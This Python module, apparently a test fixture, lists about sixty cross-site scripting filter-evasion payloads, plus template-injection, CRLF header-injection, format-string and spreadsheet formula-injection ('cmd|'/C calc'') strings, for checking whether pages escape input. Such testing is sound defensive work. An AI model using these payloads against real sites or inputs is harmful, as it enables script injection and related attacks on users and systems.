"""Sixty texts that are scripts where a page forgets to escape them, each in its own way.

Source: OWASP, XSS Filter Evasion Cheat Sheet; HTML Living Standard, 13.2 (parsing); own observations.
"""

FOR_BROWSERS = (
    # elements that run or fetch something by being there
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//127.0.0.1:9/x.js></SCRIPT>",
    "<script/x>alert(2)</script >",
    "<script type=module>import('data:text/javascript,alert(4)')</script>",
    "<iframe src=javascript:alert(5)></iframe>",
    '<iframe srcdoc="<script>parent.alert(6)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg=="></object>',
    "<embed src=data:text/html,<script>alert(8)</script>>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(9)">',
    "<base href=//127.0.0.1:9/>",
    "<link rel=stylesheet href=//127.0.0.1:9/x.css>",
    "<style>@import'//127.0.0.1:9/y.css';*{background:red}</style>",
    # handlers of events that come by themselves
    "<img src=x onerror=alert(10)>",
    "<img/src='x'onerror=alert`11`>",
    "<body onload=alert(12)>",
    "<input autofocus onfocus=alert(13)>",
    "<details open ontoggle=alert(14)>",
    "<video><source onerror=alert(15)></video>",
    "<audio src onerror=alert(16)></audio>",
    "<marquee onstart=alert(17)>",
    "<p onanimationstart=alert(18) class=htmx-indicator>",
    '<div hx-get="/" hx-trigger="load" hx-on::before-request="alert(19)"></div>',
    '<div hx-on:load="alert(20)" hx-vals="js:{x:alert(20)}" hx-trigger="load" hx-get="/healthz"></div>',
    # drawings and formulas, whose parsing has rules of its own
    "<svg onload=alert(21)>",
    "<svg><script>alert(22)</script></svg>",
    "<svg><a xlink:href=javascript:alert(23)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(24) attributeName=x dur=1s></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(25)'/>#x\"></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(26)></style></mglyph></table></math>",
    "<svg><style><img src=x onerror=alert(27)></style></svg>",
    # ways out of an attribute
    '" onmouseover="alert(28)" x="',
    "' onfocus='alert(29)' autofocus='",
    "\" autofocus onfocus=alert(30) '",
    "x onpointerenter=alert(31) style=position:fixed;inset:0 ",
    '"><img src=x onerror=alert(32)>',
    "'><svg/onload=alert(33)>",
    "`\"'><script>alert(34)</script>",
    "\\\"><img src=x onerror=alert(35)>//\\'",
    # ways out of an element whose content is text
    "</title><script>alert(36)</script>",
    "</textarea><img src=x onerror=alert(37)>",
    "</script><script>alert(38)</script>",
    "</style><img src=x onerror=alert(39)>",
    "</option></select><img src=x onerror=alert(40)>",
    "</template></noscript></details><svg onload=alert(41)>",
    "--><img src=x onerror=alert(42)><!--",
    "]]><img src=x onerror=alert(43)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(44)>'>",
    # addresses
    "javascript:alert(45)",
    "<a href=' java&#9;script:alert(46)' target=_top>x</a>",
    "data:text/html,<script>alert(47)</script>",
)
"""What a browser runs, or would if the policy let it, in one place of a page or another."""
FOR_OTHERS = (
    # for filters that cut words out, and for whoever writes headers
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "//127.0.0.1:9/%0d%0aSet-Cookie:x=1",
    # for templates, gettext, entities that are read twice, strings in scripts, sheets
    "{{ 7 * 7 }}{% for x in () %}{{ ''.__class__.__mro__ }}${alert(48)}#{49}",
    "%(name)s %(num)d %s %n %% %(x)",
    "&lt;script&gt;alert(50)&lt;/script&gt; &#60;img src=x onerror=alert(50)&#62; &amp;quot;",
    '\\u003cscript\\u003ealert(51)\\x3c/script\\x3e "; alert(51); //',
    "\u2028alert(52)\u2029 '\";alert(52)//",
    "＜script＞alert(53)＜/script＞ \ufeff<script\u00a0>alert(53)</script>",
    '=HYPERLINK("javascript:alert(54)","x"),"<img src=x onerror=alert(54)>"',
    "@SUM(1+1)*cmd|'/C calc'!A0;\"\";<b onclick=alert(55)>x</b>",
)
"""What another reader takes for its own; in a page it is a text like others."""
PAYLOADS = (*FOR_BROWSERS, *FOR_OTHERS)


def written(turn: int) -> str:
    """Give all of them one after another, and a telephone number that is masked.

    Each turn begins with another one, and no two texts are the same.
    """
    first = turn * 7 % len(PAYLOADS)
    return " ".join([*PAYLOADS[first:], *PAYLOADS[:first], "13800138000", str(turn)])
